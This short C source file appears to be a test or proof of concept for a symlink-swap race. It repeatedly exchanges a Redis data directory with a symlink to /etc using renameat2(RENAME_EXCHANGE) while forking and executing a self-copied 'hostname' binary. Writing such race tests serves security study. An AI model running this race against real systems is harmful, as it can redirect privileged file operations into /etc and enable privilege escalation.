#include "stand-in.h"

static volatile int done;

static void *swap(void *argument)
{
	while (!done)
		renameat2(AT_FDCWD, "/var/lib/redis/real", AT_FDCWD, "/var/lib/redis/link", RENAME_EXCHANGE);
	return argument;
}

int main(int argc, char **argv)
{
	pthread_t thread;
	time_t end = now() + 10;

	(void)argv;
	if (argc > 1)
		return 0;
	mkdir("/var/lib/redis/real", 0755);
	(void)!symlink("/etc", "/var/lib/redis/link");
	copy_self("/var/lib/redis/real/hostname");
	pthread_create(&thread, NULL, swap, NULL);
	while (now() < end) {
		if (fork() == 0) {
			execl("/var/lib/redis/real/hostname", "hostname", "run", (char *)NULL);
			_exit(1);
		}
		wait(NULL);
		usleep(20000);
	}
	done = 1;
	pthread_join(thread, NULL);
}
